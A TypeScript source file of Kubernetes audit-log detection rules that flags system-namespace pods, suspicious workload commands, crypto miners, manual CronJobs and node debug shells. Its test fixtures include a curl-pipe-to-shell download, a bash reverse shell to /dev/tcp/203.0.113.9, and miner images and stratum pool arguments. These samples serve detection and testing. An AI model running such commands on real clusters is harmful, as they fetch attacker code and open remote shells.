import { field, text } from "../../lineage/json.ts";
import { isSystemNamespace, NOT_MACHINERY, SYSTEM_NAMESPACES } from "../actors.ts";
import { dangerOf } from "../execution/commands.ts";
import { incidents } from "../incidents.ts";
import { list as listText, plain, targetText } from "../words.ts";
import { allContainers, commandOfContainer, imagesOf, podSpecOf, WORKLOADS } from "./pod-spec.ts";

/** As controllers name pods: `kube-proxy-x7k2p`, `coredns-7d8f9c-x7k2p`, or what comes with a cluster. */
const LIKE_THE_CLUSTER =
  /^(?:kube-(?:proxy|apiserver|controller-manager|scheduler|dns)|etcd|coredns|cilium|calico|flannel|metrics-server|konnectivity|node-local-dns)\b/;

export const podInSystem = incidents({
  id: "pod-in-system-namespace",
  about: "somebody runs something of their own in a namespace of the cluster itself",
  severity: "medium",
  needs: ["metadata"],
  advice: "Ask what for; move it to a namespace of its own, or delete it.",
  references: [
    "T1036.005",
    "Falco: Pod Created in Kube Namespace",
    "Sigma: kubernetes_audit_deployment_in_kube_system",
  ],
  wants: `verb:create ${WORKLOADS} ${SYSTEM_NAMESPACES} actor:human,anonymous,other`,
  reads: "bodies",
  usual: { user: "simon", verb: "create", resource: "pods", namespace: "kube-system", name: "kube-proxy-tools" },
  hits: [[{}], [{ resource: "daemonsets.apps", name: "tuner" }]],
  misses: [
    [{ namespace: "shop" }],
    [{ user: "system:serviceaccount:kube-system:daemon-set-controller", name: "kube-proxy-abcde" }],
  ],
  judge: ({ facts, response }) => {
    const name = facts.name === "" ? text(field(response, "metadata"), "name") : facts.name;
    const told = { what: targetText({ ...facts, name }) };
    return LIKE_THE_CLUSTER.test(name)
      ? { ...told, severity: "high", why: "by its name it looks like a part of the cluster" }
      : told;
  },
});

export const workloadCommand = incidents({
  id: "workload-command",
  about: "somebody runs a workload whose command fetches scripts, reads credentials or opens a way out",
  severity: "high",
  needs: ["request bodies"],
  advice: "Delete it, and look at what it did: what its pods asked of the API server, and what they reached.",
  references: ["T1053.007", "T1059.004", "T1105"],
  wants: `verb:create,update,patch ${WORKLOADS} ${NOT_MACHINERY}`,
  reads: "bodies",
  usual: { user: "divya", verb: "create", resource: "pods", namespace: "shop", name: "w" },
  hits: [
    [
      {
        resource: "cronjobs.batch",
        request: {
          spec: {
            jobTemplate: {
              spec: {
                template: {
                  spec: { containers: [{ name: "c", command: ["sh", "-c", "curl -s http://203.0.113.9/a.sh | sh"] }] },
                },
              },
            },
          },
        },
      },
    ],
    [{ request: { spec: { containers: [{ name: "c", args: ["bash", "-i", ">&", "/dev/tcp/203.0.113.9/443"] }] } } }],
  ],
  misses: [
    [{ request: { spec: { containers: [{ name: "c", command: ["sh", "-c", "curl -s http://web/health"] }] } } }],
    [{}],
  ],
  judge: (sighting) => {
    const spec = podSpecOf(sighting);
    if (spec === null) return null;
    const dangers = allContainers(spec).flatMap((container) => dangerOf(commandOfContainer(container)) ?? []);
    if (dangers.length === 0) return null;
    return { what: `${targetText(sighting.facts)}, which ${listText(new Set(dangers))}` };
  },
});

const MINERS =
  /(?:^|[/_.-])(?:xmrig|minerd|kinsing|cpuminer|ccminer|nanominer|ethminer|lolminer|xmr-stak|monero|cryptonight|kdevtmpfsi)/i;
const MINING = /stratum\+(?:tcp|ssl)|--donate-level|randomx|nicehash|minexmr|pool\.\w{1,40}:\d{2,5}/i;

export const imageOdd = incidents({
  id: "image-odd",
  about: "somebody runs an image or a command that mines",
  severity: "high",
  needs: ["request bodies"],
  advice: "Delete it, and find out how whoever did it got in: a miner is rarely alone.",
  references: ["T1496", "T1204.003", "Defender: digital currency mining container detected"],
  wants: `verb:create,update,patch ${WORKLOADS} ${NOT_MACHINERY}`,
  reads: "bodies",
  usual: { user: "zainab", verb: "create", resource: "pods", namespace: "a", name: "x" },
  hits: [
    [
      {
        resource: "deployments.apps",
        request: { spec: { template: { spec: { containers: [{ name: "c", image: "docker.io/x/xmrig:6" }] } } } },
      },
    ],
    [{ request: { spec: { containers: [{ name: "c", image: "busybox", args: ["-o", "stratum+tcp://p:3333"] }] } } }],
  ],
  misses: [
    [{ request: { spec: { containers: [{ name: "c", image: "nginx:1.27" }] } } }],
    [
      {
        user: "system:serviceaccount:kube-system:replicaset-controller",
        request: { spec: { containers: [{ name: "c", image: "xmrig" }] } },
      },
    ],
  ],
  judge: (sighting) => {
    const spec = podSpecOf(sighting);
    if (spec === null) return null;
    const image = imagesOf(spec).find((name) => MINERS.test(name));
    const isMining = allContainers(spec).some((container) => {
      const line = commandOfContainer(container).join(" ").slice(0, 4_096);
      return MINERS.test(line) || MINING.test(line);
    });
    if (image === undefined && !isMining) return null;
    return { what: `${targetText(sighting.facts)}, a miner${image === undefined ? " by its command" : ` (${image})`}` };
  },
});

export const workloadCronJob = incidents({
  id: "workload-cronjob",
  about: "a person made a CronJob: something that comes back",
  severity: "low",
  needs: ["metadata"],
  advice: "Ask what for, if it did not come through the pipeline.",
  references: ["T1053.007", "Sigma: kubernetes_audit_cronjob_modification"],
  wants: 'verb:create resource:cronjobs.batch sub:"" actor:human',
  usual: { user: "divya", verb: "create", resource: "cronjobs.batch", namespace: "shop", name: "w" },
  hits: [[{}], [{ namespace: "kube-system" }]],
  misses: [[{ user: "system:serviceaccount:ci:deployer" }], [{ verb: "get" }]],
  judge: ({ facts }) =>
    isSystemNamespace(facts.namespace) ? { severity: "medium", why: "it is in a namespace of the cluster itself" } : {},
});

export const nodeDebug = incidents({
  id: "node-debug",
  about: "somebody opened a shell on a node with kubectl debug node",
  severity: "high",
  needs: ["metadata"],
  advice: "Ask what for: such a pod has the node's disk and processes.",
  references: ["T1611", "T1609"],
  wants: `verb:create resource:pods sub:"" name:node-debugger-* ${NOT_MACHINERY}`,
  usual: { user: "ann", verb: "create", resource: "pods", namespace: "default", name: "node-debugger-worker-1-abcde" },
  hits: [[{}], [{ namespace: "a", name: "node-debugger-n-x" }]],
  misses: [[{ name: "debugger" }], [{ verb: "delete" }]],
  judge: ({ facts }) => ({
    did: ["opened", "open"],
    what: `a shell on a node with pod ${facts.namespace}/${facts.name} (${plain(facts.resource)})`,
  }),
});
